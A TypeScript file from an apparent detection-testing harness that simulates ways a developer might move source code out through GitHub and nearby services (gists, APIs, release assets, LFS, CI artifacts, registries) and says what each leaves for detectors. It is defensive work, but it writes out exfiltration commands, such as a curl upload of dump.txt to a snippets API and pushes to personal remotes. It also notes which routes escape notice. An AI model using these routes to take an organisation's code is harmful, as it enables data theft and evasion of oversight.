/** E8 to E15: which door of the code host, or of its neighbours, is used. */
import {
  githubHook,
  githubPushHook,
  hookRepository,
  organisationOf,
  personAtGithub,
  sender,
} from "../sensors/repository.ts";
import { push, remoteOf } from "../actions/git.ts";
import { session } from "../sensors/endpoint.ts";
import { post, pushRequests, run, send, SECOND, type Evasion, type Scene } from "./scene.ts";

const MEGABYTE = 1_000_000;

function graphql(scene: Scene): void {
  run(scene, scene.developer, scene.time(11), [
    "gh",
    "api",
    "graphql",
    "-f",
    "query=mutation($i:CreateCommitOnBranchInput!){createCommitOnBranch(input:$i){commit{url}}}",
    "-F",
    "i=@i.json",
  ]);
}

/** Somebody whose pushes the audit log shows every day pushes once to a remote that no log names. */
function pushElsewhere(scene: Scene): void {
  const { world, developer, repository, random } = scene;
  const person = { time: 0, user: developer.account.name, transport: "https", random } as const;
  const actor = personAtGithub(world, developer, developer.workstation, "git/2.47.1");
  for (const [hour, daysAgo] of [
    [9, 2],
    [15, 2],
    [10, 1],
    [16, 1],
    [9, 0],
    [10, 0],
  ] as const) {
    const shell = session(developer.workstation, developer.account, random);
    const remote = remoteOf(repository);
    push(world, { ...person, time: scene.time(hour, -daysAgo), shell, remote, bytes: 180_000, actor });
  }
  run(scene, developer, scene.time(14), ["git", "push", "backup", "main"]);
  send(scene, developer, scene.time(14) + SECOND, "github.com", pushRequests("ledger", 6 * MEGABYTE));
  // the logs go on: somebody else pushes
  const { windowsDeveloper: other } = scene;
  push(world, {
    ...person,
    user: other.account.name,
    time: scene.time(16),
    shell: session(other.workstation, other.account, random, "C:\\Windows\\System32\\cmd.exe"),
    remote: remoteOf(repository),
    bytes: 180_000,
    actor: personAtGithub(world, other, other.workstation, "git/2.47.1.windows.1"),
  });
}

export const destination: readonly Evasion[] = [
  {
    id: "E8",
    title: "A personal repository on the allowed code host",
    signal: "the owner in path or command line, held against policy; a push that the organisation's audit log lacks",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            "github.com",
            pushRequests(`${scene.developer.account.name}/ledger`, 900_000),
          ),
      },
      "seen-endpoint": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "git",
            "push",
            `git@github.com:${scene.developer.account.name}/ledger.git`,
            "HEAD:main",
          ]),
      },
      "seen-missing-in-audit-log": { lanes: ["endpoint", "sni", "flow", "audit"], play: pushElsewhere },
    },
    limits:
      "Without inspection or an address on the command line, only that the organisation's audit log lacks the push tells of it, and that needs a person whose pushes it shows otherwise.",
  },
  {
    id: "E9",
    title: "Gist, snippet, wiki, attachment, comment",
    signal: "the path of the request",
    behaviours: ["gist-or-snippet-upload", "side-channel-upload"],
    examples: {
      "seen-gist": {
        lanes: ["url"],
        play: (scene) => send(scene, scene.clerk, scene.time(11), "api.github.com", [post("/gists", 2 * MEGABYTE)]),
      },
      "seen-snippet": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "curl",
            "-X",
            "POST",
            "-F",
            "content=@dump.txt",
            "https://gitlab.com/api/v4/snippets",
          ]),
      },
      "seen-wiki": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notes.wiki", 2 * MEGABYTE)),
      },
      "unseen-attachment": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", [
            { method: "GET", path: "/n1ght/notes/issues/1", received: 80_000 },
            post("/upload/policies/assets", 900),
          ]),
      },
    },
    limits:
      "The request that announces an attachment names no repository: a screenshot for one's own issue looks the same.",
  },
  {
    id: "E10",
    title: "Contents API, Git data API, GraphQL",
    signal: "method and path, the command line, bytes to the API",
    behaviours: ["api-upload", "git-data-api-upload", "volume-anomaly"],
    examples: {
      "seen-contents": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "api.github.com", [
            post("/repos/n1ght/notes/contents/a.bin", 700_000, { method: "PUT" }),
          ]),
      },
      "seen-git-data": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "api.github.com", [
            post("/repos/n1ght/notes/git/blobs", 700_000),
            post("/repos/n1ght/notes/git/trees", 900),
            post("/repos/n1ght/notes/git/commits", 400),
            post("/repos/n1ght/notes/git/refs/heads/main", 90, { method: "PATCH" }),
          ]),
      },
      "seen-graphql": { lanes: ["endpoint"], play: graphql },
      "seen-bytes": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "api.github.com", [post("/graphql", 9 * MEGABYTE)]),
      },
    },
    limits: "An inspected GraphQL request shows its size at most: owner and repository are in its body.",
  },
  {
    id: "E11",
    title: "Release assets",
    signal: "uploads.github.com: path, or name and bytes",
    behaviours: ["side-channel-upload", "volume-anomaly"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "uploads.github.com", [
            post("/repos/n1ght/notes/releases/7/assets?name=b.bin", 30 * MEGABYTE),
          ]),
      },
      "seen-bytes": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "uploads.github.com", [
            post("/repos/n1ght/notes/releases/7/assets?name=b.bin", 90 * MEGABYTE),
          ]),
      },
    },
    limits: "A small asset from a developer's machine without inspection.",
  },
  {
    id: "E12",
    title: "LFS objects to object storage",
    signal: "the batch request names the repository, the object follows within two minutes",
    behaviours: ["side-channel-upload"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) => {
          send(scene, scene.developer, scene.time(11), "github.com", [
            post("/n1ght/notes.git/info/lfs/objects/batch", 400),
          ]);
          send(scene, scene.developer, scene.time(11) + 20 * SECOND, "github-cloud.s3.amazonaws.com", [
            { method: "PUT", path: `/alambic/media/7/${"ab".repeat(32)}`, sent: 20 * MEGABYTE },
          ]);
        },
      },
    },
    limits: "Without inspection the storage is any storage.",
  },
  {
    id: "E13",
    title: "Artifacts and caches of a pipeline",
    signal: "the workflow that makes them: pushed, run, removed",
    behaviours: ["workflow-exfiltration"],
    examples: {
      "seen-workflow-removed": {
        lanes: ["audit"],
        play: (scene) => {
          const { world, random, developer, repository } = scene;
          const actor = personAtGithub(world, developer, developer.workstation, "git/2.47.1");
          const time = scene.time(11);
          const common = { repository: hookRepository(world, repository, time), organization: organisationOf(world) };
          githubPushHook(world, {
            time,
            actor,
            repository,
            ref: "refs/heads/fmt",
            message: "format",
            added: [".github/workflows/fmt.yml"],
            modified: [],
            created: true,
            random,
          });
          githubHook(world, time + 90 * SECOND, "delete", random, {
            ref: "fmt",
            ref_type: "branch",
            ...common,
            sender: sender(developer.github),
          });
        },
      },
      "unseen-artifact": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.host("ci-01"), scene.time(11), "pipelines.actions.githubusercontent.com", [
            { method: "PUT", path: "/artifacts/9f2c?api-version=6.0", sent: 4 * MEGABYTE, received: 100 },
          ]),
      },
    },
    limits: "What a sanctioned pipeline keeps as an artifact is its work, whoever wrote the step.",
  },
  {
    id: "E14",
    title: "Workspaces in the browser",
    signal: "the workspace's host name and bytes",
    behaviours: ["volume-anomaly", "unsanctioned-forge"],
    examples: {
      "seen-bytes": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(
            scene,
            scene.clerk,
            scene.time(11),
            { name: "fuzzy-disco-7x.github.dev", ip: "203.0.113.61", port: 443 },
            [{ method: "POST", path: "/", sent: 70 * MEGABYTE }],
          ),
      },
      "seen-not-allowed": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            { name: "n1ght-notes-4f2.ws-eu.gitpod.io", ip: "203.0.113.62", port: 443 },
            [{ method: "POST", path: "/", sent: 3 * MEGABYTE }],
          ),
      },
    },
    limits: "What is typed or pasted into an editor in the browser is a few kilobytes among many.",
  },
  {
    id: "E15",
    title: "Package and image registries as a drop",
    signal: "the path of the request, the command line",
    behaviours: ["side-channel-upload"],
    examples: {
      "seen-image": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "ghcr.io", [
            post("/v2/n1ght/notes/blobs/uploads/", 0, { status: 202 }),
            post("/v2/n1ght/notes/blobs/upload/5f", 30 * MEGABYTE, { method: "PATCH", status: 202 }),
          ]),
      },
      "seen-command": {
        lanes: ["endpoint"],
        play: (scene) => void run(scene, scene.developer, scene.time(11), ["docker", "push", "ghcr.io/n1ght/notes:1"]),
      },
      "seen-package": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "registry.npmjs.org", [
            post("/@n1ght%2fnotes", 5 * MEGABYTE, { method: "PUT" }),
          ]),
      },
    },
    limits: "Without inspection publishing and installing are the same connection.",
  },
];
